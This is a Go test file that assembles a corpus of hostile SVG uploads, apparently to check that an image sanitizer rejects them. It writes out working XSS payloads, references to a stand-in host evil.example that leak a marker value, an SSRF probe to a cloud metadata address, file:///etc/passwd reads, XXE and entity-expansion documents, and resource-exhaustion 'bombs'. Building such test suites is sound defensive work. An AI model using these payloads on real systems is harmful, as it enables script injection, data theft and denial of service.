package pictures_test

import (
	"fmt"
	"strings"
)

func svgOf(inside string) []byte {
	return []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">` + inside + `</svg>`)
}

// hostileElements stand in an SVG beside a shape.
var hostileElements = []string{
	`<script>alert(1)</script>`, `<script href="https://evil.example/x.js"/>`, `<script xlink:href="data:text/javascript,alert(1)"/>`, `<SCRIPT>alert(1)</SCRIPT>`,
	`<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>`, `<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>`,
	`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>`, `<switch><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></switch>`,
	`<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>`, `<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>`,
	`<a href="javascript:alert(1)"><rect width="9" height="9"/></a>`, `<a xlink:href="javascript:alert(1)"><path d="M0 0"/></a>`, `<a href="https://evil.example/S3CRET"><circle r="4"/></a>`,
	`<image href="https://evil.example/S3CRET.png"/>`, `<image xlink:href="http://169.254.169.254/"/>`, `<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"/>`, `<image href="file:///etc/passwd"/>`,
	`<use href="https://evil.example/x.svg#a"/>`, `<use xlink:href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/>`, `<use href="#me" id="me"/>`,
	`<animate attributeName="href" values="javascript:alert(1)"/>`, `<set attributeName="onmouseover" to="alert(1)"/>`, `<animate onbegin="alert(1)" attributeName="x" dur="1s"/>`,
	`<animateTransform attributeName="transform" onend="alert(1)"/>`, `<animateMotion path="M0 0"/>`, `<set attributeName="xlink:href" to="javascript:alert(1)"/>`, `<handler type="text/javascript">alert(1)</handler>`,
	`<listener event="load" handler="#h"/>`, `<discard begin="click"/>`,
	`<style>@import url("https://evil.example/S3CRET.css");</style>`, `<style>*{background:url(https://evil.example/S3CRET)}</style>`, `<style>.a{fill:url(https://evil.example/#x)}</style><rect class="a"/>`,
	`<style>.a{fill:expression(alert(1))}</style><rect class="a"/>`, `<style>.a{-moz-binding:url(data:text/xml,alert)}</style><rect class="a"/>`, `<style>@font-face{font-family:a;src:url(https://evil.example/S3CRET)}</style>`,
	`<style><![CDATA[.a{fill:url(javascript:alert(1))}]]></style><rect class="a"/>`, `<style>.a{fill:red}</style><rect class="a" onclick="alert(1)"/>`, `<style>rect{stroke:url("//evil.example/S3CRET#a")}</style><rect/>`,
	`<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/"/>`, `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=javascript:alert(1)"/>`,
	`<filter id="f"><feImage href="https://evil.example/S3CRET"/></filter><rect filter="url(#f)"/>`, `<filter id="f"><feGaussianBlur stdDeviation="999999"/></filter><rect filter="url(#f)"/>`,
	`<pattern id="p"><image href="https://evil.example/S3CRET"/></pattern><rect fill="url(#p)"/>`, `<marker id="m"><rect/></marker><path marker-end="url(https://evil.example/#m)"/>`,
	`<symbol id="s"><script>alert(1)</script></symbol>`, `<text>S3CRET</text>`, `<text><tspan>S3CRET</tspan></text>`, `<title>S3CRET</title>`, `<desc>S3CRET</desc>`, `<metadata>S3CRET</metadata>`,
	`<!-- S3CRET -->`, `<![CDATA[S3CRET]]>`, `S3CRET`, `<?php echo "S3CRET" ?>`, `<?xml-stylesheet href="https://evil.example/S3CRET"?>`, `<unknown>S3CRET<script>alert(1)</script></unknown>`,
	`<video xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/S3CRET"/>`, `<audio href="https://evil.example/S3CRET"/>`, `<svg onload="alert(1)"><rect/></svg>`, `<g><svg><script>alert(1)</script></svg></g>`,
	`<cursor href="https://evil.example/S3CRET"/>`, `<color-profile href="https://evil.example/S3CRET"/>`, `<font-face-uri href="https://evil.example/S3CRET"/>`, `<tref href="file:///etc/passwd"/>`, `<mpath href="https://evil.example/"/>`,
}

// hostileAttributes stand at a shape.
var hostileAttributes = []string{
	`onload="alert(1)"`, `onclick="alert(1)"`, `ONMOUSEOVER="alert(1)"`, `onbegin="alert(1)"`, `onfocusin="alert(1)" tabindex="0"`, `href="javascript:alert(1)"`, `xlink:href="https://evil.example/S3CRET"`,
	`style="fill:url(https://evil.example/S3CRET)"`, `style="background-image:url(data:image/svg+xml,S3CRET)"`, `style="fill:red;behavior:url(#S3CRET)"`, `style="fill:\75rl(https://evil.example/)"`,
	`fill="url(https://evil.example/S3CRET#a)"`, `fill="url('//evil.example/S3CRET')"`, `fill="url(data:image/png;base64,S3CRET)"`, `stroke="url( javascript:alert(1) )"`, `clip-path="url(https://evil.example/#S3CRET)"`,
	`mask="url(http://evil.example/S3CRET)"`, `filter="url(https://evil.example/S3CRET)"`, `marker-start="url(https://evil.example/S3CRET)"`, `cursor="url(https://evil.example/S3CRET)"`, `d="M0 0&quot;&gt;&lt;script&gt;alert(1)"`,
	`transform="translate(1) url(S3CRET)"`, `id="&quot;&gt;&lt;script&gt;alert(1)"`, `class="S3CRET"`, `data-x="S3CRET"`, `aria-label="S3CRET"`, `xml:base="https://evil.example/S3CRET"`, `xml:space="S3CRET"`, `xmlns:a="urn:S3CRET" a:b="S3CRET"`,
	`width="calc(1px + S3CRET)"`, `width="1e999999"`, `points="S3CRET"`, `opacity="var(--S3CRET)"`, `fill="image-set(S3CRET)"`, `fill="red;x:url(S3CRET)"`, `stroke-dasharray="0.00001"`, `fill="&lt;S3CRET"`, `begin="S3CRET.click"`,
}

// hostileDocuments are whole files.
var hostileDocuments = []string{
	`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>&x;</text></svg>`,
	`<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"/>`,
	`<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="&c;"/></svg>`,
	`<!DOCTYPE svg SYSTEM "https://evil.example/S3CRET.dtd"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="&x;"/></svg>`, `<svg viewBox="0 0 9 9"><rect/></svg>`, `<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"><script>alert(1)</script></svg>`,
	`<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`, `<?xml version="1.0" encoding="UTF-7"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">+ADw-script+AD4-alert(1)</svg>`,
	`<?xml version="1.0" encoding="iso-2022-jp"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"/>`, `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect/></svg><script>alert(1)</script>`,
	`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="alert(1)" width="1" height="1"><rect/></svg>`, `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e308 1e308"><rect/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg" viewBox="NaN NaN NaN NaN"><rect/></svg>`, `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 -9 0"><rect/></svg>`, `<svg xmlns="http://www.w3.org/2000/svg" width="99999999" height="99999999"><rect/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%"><rect/></svg>`, `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">`, `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"></rect></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><script>`, "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\">\x00<rect/></svg>", "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\" \xff\xfe=\"1\"/>",
}

func hostileSVGs() (all []upload) {
	for _, inside := range hostileElements {
		all = append(all, upload{"svg with " + inside, svgOf(`<rect width="9" height="9"/>` + inside)})
	}
	for _, attribute := range hostileAttributes {
		all = append(all, upload{"svg with " + attribute, svgOf(`<rect ` + attribute + `/>`)})
	}
	for i, whole := range hostileDocuments {
		all = append(all, upload{fmt.Sprintf("svg %d of its own kind", i), []byte(whole)})
	}
	masks := ""
	for i := range 40 {
		masks += fmt.Sprintf(`<mask id="m%d">%s</mask>`, i, strings.Repeat(fmt.Sprintf(`<rect mask="url(#m%d)"/>`, i+1), 9))
	}
	return append(all,
		upload{"bomb: svg with groups in groups", svgOf(strings.Repeat(`<g>`, 100_000) + strings.Repeat(`</g>`, 100_000))},
		upload{"bomb: svg with unknown in unknown", svgOf(strings.Repeat(`<x>`, 100_000) + strings.Repeat(`</x>`, 100_000))},
		upload{"bomb: svg with many shapes", svgOf(strings.Repeat(`<rect/>`, 200_000))},
		upload{"bomb: svg with a long path", svgOf(`<path d="M0 0` + strings.Repeat(`l1 1`, 500_000) + `"/>`)},
		upload{"bomb: svg with many attributes", svgOf(`<rect ` + strings.Repeat(`x="1" `, 50_000) + `/>`)},
		upload{"bomb: svg with many styles", svgOf(`<style>` + strings.Repeat(`.a,.b,.c{fill:red;stroke:red}`, 30_000) + `</style><rect class="` + strings.Repeat("a ", 50_000) + `"/>`)},
		upload{"bomb: svg with masks of masks", svgOf(masks + `<rect mask="url(#m0)"/>`)},
		upload{"bomb: svg with long words", svgOf(`<rect fill="` + strings.Repeat("a", 2<<20) + `"/>`)},
		upload{"bomb: svg with open tags", svgOf(strings.Repeat(`<rect `, 100_000))},
	)
}
